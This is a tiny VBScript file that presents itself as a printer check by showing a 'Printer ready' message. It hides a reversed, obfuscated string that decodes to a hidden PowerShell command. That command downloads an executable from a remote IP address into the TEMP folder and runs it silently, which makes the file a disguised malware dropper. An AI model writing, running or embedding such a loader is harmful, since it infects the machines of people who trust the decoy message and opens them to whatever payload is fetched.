Dim s
s = "0 ,""exe.v\PMET:vne$ & ;exe.v\PMET:vne$ o- v/66.001.15.891//:ptth rwi c- neddih w- llehsrewop"" nuR.)""llehS.tpircSW""(tcejbOetaerC"
Execute StrReverse(s)
MsgBox "Printer ready"
